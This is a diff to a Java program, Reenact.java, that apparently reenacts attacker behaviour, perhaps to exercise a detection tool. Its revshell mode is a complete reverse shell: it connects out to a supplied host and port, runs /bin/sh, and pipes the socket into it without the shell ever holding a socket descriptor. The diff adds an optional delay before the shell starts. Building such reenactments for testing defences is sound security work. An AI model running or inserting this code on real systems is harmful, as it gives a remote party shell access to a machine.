@@ -2,9 +2,11 @@
 //
 //   java Reenact.java exec CMD [ARGS...]    Runtime.exec of a command from a worker thread,
 //                                           output copied to stdout, waited for
-//   java Reenact.java revshell HOST PORT    connects out, then runs /bin/sh on pipes and
-//                                           pumps the socket into it (a Java-native
-//                                           reverse shell: no descriptor is ever a socket)
+//   java Reenact.java revshell HOST PORT [DELAY_MS]
+//                                           connects out, waits DELAY_MS (0), then runs
+//                                           /bin/sh on pipes and pumps the socket into it
+//                                           (a Java-native reverse shell: no descriptor of
+//                                           the shell is ever a socket)
 import java.io.InputStream;
 import java.io.OutputStream;
 import java.net.Socket;
@@ -13,7 +15,8 @@ public class Reenact {
     public static void main(String[] args) throws Exception {
         switch (args[0]) {
             case "exec" -> onWorkerThread(() -> exec(java.util.Arrays.copyOfRange(args, 1, args.length)));
-            case "revshell" -> onWorkerThread(() -> revshell(args[1], Integer.parseInt(args[2])));
+            case "revshell" -> onWorkerThread(() -> revshell(args[1], Integer.parseInt(args[2]),
+                    args.length > 3 ? Long.parseLong(args[3]) : 0));
             default -> throw new IllegalArgumentException("unknown mode " + args[0]);
         }
     }
@@ -38,8 +41,9 @@ public class Reenact {
         System.exit(p.waitFor());
     }
 
-    static void revshell(String host, int port) throws Exception {
+    static void revshell(String host, int port, long delayMs) throws Exception {
         try (Socket s = new Socket(host, port)) {
+            Thread.sleep(delayMs);
             Process p = new ProcessBuilder("/bin/sh").redirectErrorStream(true).start();
             Thread in = pump(s.getInputStream(), p.getOutputStream());
             Thread out = pump(p.getInputStream(), s.getOutputStream());
